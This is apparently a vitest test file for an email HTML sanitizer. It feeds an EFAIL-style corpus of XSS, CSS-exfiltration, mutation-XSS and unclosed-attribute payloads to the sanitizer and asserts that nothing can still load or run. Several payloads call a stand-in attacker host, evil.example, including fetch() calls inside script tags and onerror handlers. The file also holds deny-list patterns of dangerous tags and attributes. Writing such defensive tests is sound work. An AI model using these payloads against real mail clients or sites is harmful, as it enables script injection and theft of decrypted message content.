// @vitest-environment jsdom
/**
 * The sanitizer against an EFAIL-style corpus: every payload tries to make the message document
 * load something from `evil.example` (or run script). After sanitizing, no element may be able
 * to load or submit, and no attribute or <style> text may still carry the attacker's URL.
 * jsdom, not happy-dom: DOMPurify's maintainers call happy-dom unsafe with DOMPurify
 * (cure53/DOMPurify#1457, capricorn86/happy-dom#2182: `Node.prototype.nodeName` is '' there, and
 * a probe here confirmed hrefs survived), so a green test there would prove nothing.
 */
import { describe, expect, it } from 'vitest';
import { ANCHOR_ATTR, LINK_ATTR, assertInert, riskyCss, sanitizeHtml } from '../../../src/display/sanitize.js';

const win = window as unknown as Parameters<typeof sanitizeHtml>[1];

function clean(html: string): HTMLDivElement {
  const div = document.createElement('div');
  div.append(sanitizeHtml(html, win));
  return div;
}

const LOADING_TAGS = /^(script|iframe|frame|frameset|object|embed|applet|form|input|button|textarea|select|base|link|meta|template|image|use|feimage|foreignobject|video|audio|source|track|picture|portal|animate|set|animatemotion|animatetransform|noscript|math)$/i;
const URL_ATTRS = /^(src|href|srcset|background|poster|action|formaction|xlink:href|data|codebase|cite|longdesc|lowsrc|dynsrc|ping|usemap|manifest|srcdoc|content|http-equiv|archive|classid|imagesrcset)$/i;

/** Nothing in `root` can load a resource, submit, navigate, or run script. */
function expectInert(root: Element): void {
  for (const el of Array.from(root.querySelectorAll('*'))) {
    expect(el.localName, `element <${el.localName}>`).not.toMatch(LOADING_TAGS);
    for (const a of Array.from(el.attributes)) {
      const where = `<${el.localName} ${a.name}="${a.value.slice(0, 60)}">`;
      expect(a.name.toLowerCase().startsWith('on'), where).toBe(false);
      if (el.localName === 'img' && a.name === 'src') expect(a.value, where).toMatch(/^data:image\/(png|gif|jpe?g|webp|bmp);base64,/i);
      else expect(a.name, where).not.toMatch(URL_ATTRS);
      if (a.name !== LINK_ATTR && a.name !== ANCHOR_ATTR) {
        expect(a.value, where).not.toMatch(/evil|url\s*\(|javascript:/i);
      }
    }
    if (el.localName === 'style') expect(el.textContent, '<style> text').not.toMatch(/evil|url\s*\(|@import|\\/i);
  }
}

/** [name, payload] — each must come out unable to load anything. */
const CORPUS: [string, string][] = [
  ['remote img', '<p>x<img src="http://evil.example/a.png">'],
  ['protocol-relative img', '<img src="//evil.example/a.png">'],
  ['img srcset', '<img srcset="http://evil.example/1x.png 1x, http://evil.example/2x.png 2x">'],
  ['picture/source srcset', '<picture><source srcset="http://evil.example/s.webp"><img src="http://evil.example/i.png"></picture>'],
  ['img lowsrc/dynsrc/longdesc', '<img lowsrc="http://evil.example/l" dynsrc="http://evil.example/d" longdesc="http://evil.example/ld">'],
  ['table/body background attribute', '<table background="http://evil.example/bg.png"><tr><td background="http://evil.example/td.png">x</td></tr></table><body background="http://evil.example/b">'],
  ['video poster, audio src', '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video><audio src="http://evil.example/a.mp3"></audio>'],
  ['CSS url() in style attribute', '<div style="background-image: url(http://evil.example/css.png)">x</div>'],
  ['CSS url() upper case and spaced', '<div style="BACKGROUND: URL  ( \'http://evil.example/x\' )">x</div>'],
  ['CSS escape spelling url(', '<div style="background: \\75 rl(http://evil.example/esc)">x</div>'],
  ['CSS image-set()', '<div style="background-image: image-set(\'http://evil.example/i.png\' 1x)">x</div>'],
  ['CSS url() in <style>', '<style>body { background: url("http://evil.example/s.png") }</style><p>x</p>'],
  ['CSS @import in <style>', '<style>@import "http://evil.example/i.css";</style><p>x</p>'],
  ['CSS @font-face src url()', '<style>@font-face { font-family: x; src: url(http://evil.example/f.woff) }</style><p>x</p>'],
  ['CSS attribute-selector exfiltration', '<style>input[value^="a"] { background: url(http://evil.example/?a) }</style><p>x</p>'],
  ['<style> :host escape', '<style>:host { position: fixed !important; inset: 0 }</style><p>x</p>'],
  ['<link rel=stylesheet>', '<link rel="stylesheet" href="http://evil.example/s.css"><p>x</p>'],
  ['<link rel=prefetch/dns-prefetch>', '<link rel="prefetch" href="http://evil.example/p"><link rel="dns-prefetch" href="//evil.example">'],
  ['<base href>', '<base href="http://evil.example/"><a href="x">rel</a><img src="y.png">'],
  ['<meta http-equiv=refresh>', '<meta http-equiv="refresh" content="0;url=http://evil.example/r">'],
  ['form action + formaction', '<form action="http://evil.example/f"><input name="q" value="s"><button formaction="http://evil.example/b">go</button></form>'],
  ['iframe src', '<iframe src="http://evil.example/i"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;img src=http://evil.example/sd&gt;"></iframe>'],
  ['object data / embed src', '<object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e.swf">'],
  ['applet codebase', '<applet codebase="http://evil.example/" code="x.class"></applet>'],
  ['svg image xlink:href', '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://evil.example/s.png" /></svg>'],
  ['svg image href', '<svg><image href="http://evil.example/s2.png" /></svg>'],
  ['svg use external', '<svg><use href="http://evil.example/sprite.svg#a" /></svg>'],
  ['svg feImage', '<svg><filter id="f"><feImage href="http://evil.example/fe.png" /></filter></svg>'],
  ['svg foreignObject', '<svg><foreignObject><img src="http://evil.example/fo.png"></foreignObject></svg>'],
  ['svg fill url() external', '<svg><rect width="5" height="5" fill="url(http://evil.example/p.svg#g)" /></svg>'],
  ['svg animate rewriting href', '<svg><a><animate attributeName="href" values="http://evil.example/anim" /><text>t</text></a></svg>'],
  ['svg set rewriting href', '<svg><a><set attributeName="href" to="javascript:alert(1)" /><text>t</text></a></svg>'],
  ['javascript: link', '<a href="javascript:alert(document.domain)">click</a>'],
  ['data:text/html link', '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">click</a>'],
  ['script element', '<script src="http://evil.example/x.js"></script><script>fetch("http://evil.example/")</script>'],
  ['event handlers', '<img src="data:image/png;base64,AAAA" onerror="fetch(\'http://evil.example/\')"><p onclick="x()">p</p><body onload="y()">'],
  ['a ping', '<a href="https://ok.example/" ping="http://evil.example/ping">p</a>'],
  ['blockquote cite / q cite', '<blockquote cite="http://evil.example/c">q</blockquote><q cite="http://evil.example/q">q</q>'],
  ['img usemap + area', '<img src="data:image/gif;base64,R0lGOD" usemap="#m"><map name="m"><area href="http://evil.example/area" shape="rect" coords="0,0,1,1"></map>'],
  ['data: svg image (a document)', '<img src="data:image/svg+xml;base64,PHN2Zz48aW1hZ2UgaHJlZj0iaHR0cDovL2V2aWwuZXhhbXBsZS8iLz48L3N2Zz4=">'],
  ['cid: reference unresolved', '<img src="cid:part1@evil.example">'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=http://evil.example/ns>"></noscript>'],
  ['template content', '<template><img src="http://evil.example/t.png"></template>'],
  ['math mutation XSS', '<math><mtext><table><mglyph><style><img src=http://evil.example/m onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['forged marker attribute', '<a data-unseal-href="javascript:alert(1)" href="#top">x</a><span data-unseal-href="http://evil.example/span">s</span>'],
  ['xml:base', '<svg xml:base="http://evil.example/"><text>t</text></svg>'],
  ['inline style position:fixed overlay uses no URL (kept, confined by CSS containment)', '<div style="position:fixed;inset:0">overlay</div>'],
];

describe('sanitizeHtml: EFAIL-style corpus', () => {
  for (const [name, payload] of CORPUS) {
    it(name, () => {
      const out = clean(payload);
      expectInert(out);
      expect(assertInert(out), 'the final check had nothing left to remove').toBe(0);
    });
  }

  it('EFAIL direct exfiltration: an unclosed <img src=" cannot swallow the plaintext into a URL', () => {
    // The attacker's part opens an attribute; the decrypted text would follow it in a naive client.
    const out = clean('<img src="http://evil.example/?' + 'SECRET PLAINTEXT of the decrypted part</p><p>more secret');
    expectInert(out);
    expect(out.querySelector('img[src]')).toBeNull();
    for (const el of Array.from(out.querySelectorAll('*'))) for (const a of Array.from(el.attributes)) expect(a.value).not.toContain('SECRET');
  });

  it('EFAIL direct exfiltration with an unclosed <a href=" and background=', () => {
    const out = clean('<table background="http://evil.example/?SECRET <a href="http://evil.example/?more SECRET');
    expectInert(out);
  });

  it('keeps harmless formatting, inline raster images, tables and URL-free CSS', () => {
    const out = clean(
      '<style>p.note { color: #333; font-weight: bold }</style><p class="note" style="color: red; margin: 0">Hello <b>bold</b> <i>it</i></p>' +
        '<table border="1"><tr><td>cell</td></tr></table><img alt="logo" src="data:image/png;base64,iVBORw0KGgo=">',
    );
    expectInert(out);
    expect(out.querySelector('style')?.textContent).toContain('font-weight: bold');
    expect(out.querySelector('p.note')?.getAttribute('style')).toBe('color: red; margin: 0');
    expect(out.querySelector('b')?.textContent).toBe('bold');
    expect(out.querySelector('td')?.textContent).toBe('cell');
    expect(out.querySelector('img')?.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
  });

  it('turns links into inert anchors that remember their target', () => {
    const out = clean('<a href="https://example.org/path?q=1" title="lies">site</a> <a href="#sec">jump</a><h2 id="sec">S</h2>');
    const [ext, internal] = Array.from(out.querySelectorAll('a'));
    expect(ext?.hasAttribute('href')).toBe(false);
    expect(ext?.getAttribute(LINK_ATTR)).toBe('https://example.org/path?q=1');
    expect(internal?.hasAttribute('href')).toBe(false);
    expect(internal?.getAttribute(ANCHOR_ATTR)).toBe('sec');
    // DOM-clobbering protection prefixes ids; the renderer looks the anchor up with the prefix.
    expect(out.querySelector('h2')?.id).toBe('user-content-sec');
  });

  it('drops forged marker attributes on non-anchors and replaces them on anchors', () => {
    const out = clean('<span data-unseal-href="https://evil.example/">s</span><a data-unseal-href="javascript:x" data-unseal-anchor="y">a</a>');
    expect(out.querySelector('span')?.hasAttribute(LINK_ATTR)).toBe(false);
    expect(out.querySelector('a')?.hasAttribute(LINK_ATTR)).toBe(false);
    expect(out.querySelector('a')?.hasAttribute(ANCHOR_ATTR)).toBe(false);
  });

  it('riskyCss flags URL-capable CSS and lets plain CSS through', () => {
    for (const css of [
      'a{background:url(x)}',
      'a{b:URL (x)}',
      '@import "x";',
      'a{b:\\75rl(x)}',
      'a{b:image-set("x" 1x)}',
      ':host{x:y}',
      'a{b:u/**/rl(x)}'.replace('/**/', ''),
      // A URL no single declaration shows: custom properties joined by var() (seen passing in Thunderbird).
      '--p:url;--q:(http://127.0.0.1:9/x);background-image:var(--p)var(--q)',
      'a{background:VAR( --x )}',
      'a{background-image:attr(title url)}',
    ]) {
      expect(riskyCss(css), css).toBe(true);
    }
    for (const css of ['p { color: red }', 'td { font-family: "Curly Sans" }', 'a:hover{text-decoration:underline}']) expect(riskyCss(css), css).toBe(false);
  });
});
